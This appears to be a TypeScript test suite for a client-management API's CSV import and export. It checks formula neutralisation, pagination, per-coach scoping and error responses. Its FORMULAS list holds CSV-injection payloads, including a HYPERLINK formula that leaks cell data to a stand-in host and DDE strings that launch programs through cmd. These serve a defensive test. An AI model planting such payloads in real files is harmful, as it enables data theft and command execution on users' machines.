import { parse } from 'csv-parse/sync';
import { Api, Business, addCoach, newClient, signUp, uniqueEmail } from '../support/http';
import { inProcessForSuite } from '../support/in-process';
import { recordCheck } from '../support/reliability-report';

/**
 * CSV injection, both ways (issue 10, hostile input). A client record may hold text a spreadsheet
 * would run as a formula (`=HYPERLINK(...)` as a name, typed by anyone who buys a product). The
 * import keeps such cells as text; the export (`GET /api/v1/clients/export`) neutralises them with a
 * leading apostrophe, so opening the file never runs them. The export has the list's scope.
 */
const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', "=cmd|' /C notepad'!A1"];

describe('CSV: formulas are kept as text on import and neutralised on export', () => {
  const inProcess = inProcessForSuite();
  let business: Business;
  let coach: { api: Api; id: string };

  beforeAll(async () => {
    business = await signUp(inProcess.api);
    coach = await addCoach(business);
  }, 60_000);

  const rows = (text: string) => parse(text.replace(/^\ufeff/, ''), { columns: true, relax_quotes: false }) as Array<Record<string, string>>;

  it('exports every visible client with hostile cells neutralised, and the import stores them as typed', async () => {
    const emails = FORMULAS.map((_, i) => uniqueEmail(`formula${i}`));
    const csv = ['firstName,lastName,email,phone,type', ...FORMULAS.map((formula, i) => `"${formula.replace(/"/g, '""')}",Lastname${i},${emails[i]},,offline`)].join('\n');
    const imported = await business.admin.call<any>('POST', '/api/v1/clients/import', csv, { 'content-type': 'text/csv' });
    expect(imported.status).toBe(200);
    expect(imported.body).toEqual({ created: FORMULAS.length, failed: [], failedCount: 0, truncated: false, importId: expect.any(String) });
    // Stored as typed: the list shows the text itself.
    const listed = await business.admin.get('/api/v1/clients?search=Lastname&pageSize=100');
    expect(listed.body.items.map((c: { firstName: string }) => c.firstName).sort()).toEqual([...FORMULAS].sort());

    const exported = await business.admin.call<string>('GET', '/api/v1/clients/export?search=Lastname');
    expect(exported.status).toBe(200);
    expect(exported.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(exported.headers.get('content-disposition')).toMatch(/^attachment; filename="clients-\d{4}-\d{2}-\d{2}\.csv"$/);
    const records = rows(String(exported.body));
    expect(records).toHaveLength(FORMULAS.length);
    for (const record of records) {
      expect(record.firstName).toMatch(/^'[=+\-@]/);
      expect(FORMULAS).toContain(record.firstName.slice(1));
      expect(Object.keys(record)).toEqual(['firstName', 'lastName', 'email', 'phone', 'type', 'status', 'createdAt']);
    }
    // No cell of the file starts with a formula character.
    const cells = (parse(String(exported.body).replace(/^\ufeff/, '')) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    recordCheck({ check: 'CSV injection', result: `${FORMULAS.length} formula cells imported as text and exported neutralised; 0 cells start with = + - @ tab or CR` });
  });

  it('exports across pages, with the filters of the list', async () => {
    const marker = `Paged${Date.now().toString(36)}`;
    const csv = ['firstName,lastName,email,phone,type', ...Array.from({ length: 1203 }, (_, i) => `Ann${i},${marker},${uniqueEmail(`paged${i}`)},,offline`)].join('\n');
    await business.admin.patch('/api/v1/account', { seatLimit: 5000 });
    expect((await business.admin.call<any>('POST', '/api/v1/clients/import', csv, { 'content-type': 'text/csv' })).body.created).toBe(1203);
    const exported = await business.admin.call<string>('GET', `/api/v1/clients/export?search=${marker}&sort=-createdAt`);
    const records = rows(String(exported.body));
    expect(records).toHaveLength(1203);
    expect(new Set(records.map((r) => r.email)).size).toBe(1203);
    const none = await business.admin.call<string>('GET', `/api/v1/clients/export?search=${marker}&type=full_access`);
    expect(rows(String(none.body))).toEqual([]);
  }, 60_000);

  it("gives a coach only their own clients, and another account's nothing", async () => {
    const mine = await coach.api.post('/api/v1/clients', newClient({ type: 'offline' }));
    const theirs = await business.admin.post('/api/v1/clients', newClient({ type: 'offline' }));
    const exported = rows(String((await coach.api.call<string>('GET', '/api/v1/clients/export')).body));
    expect(exported.map((r) => r.email)).toEqual([mine.body.email]);
    expect(exported.map((r) => r.email)).not.toContain(theirs.body.email);
    const other = await signUp(inProcess.api);
    expect(rows(String((await other.admin.call<string>('GET', '/api/v1/clients/export')).body))).toEqual([]);
  });

  it('refuses the anonymous, clients and bad filters with a problem', async () => {
    const anonymous = await inProcess.api.get<any>('/api/v1/clients/export');
    expect([anonymous.status, anonymous.body.code]).toEqual([401, 'unauthorized']);
    const badFilter = await business.admin.get<any>('/api/v1/clients/export?type=everyone');
    expect([badFilter.status, badFilter.body.code]).toEqual([400, 'validation_failed']);
    expect(badFilter.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    const paged = await business.admin.get<any>('/api/v1/clients/export?page=2');
    expect([paged.status, paged.body.code]).toEqual([400, 'validation_failed']);
  });
});
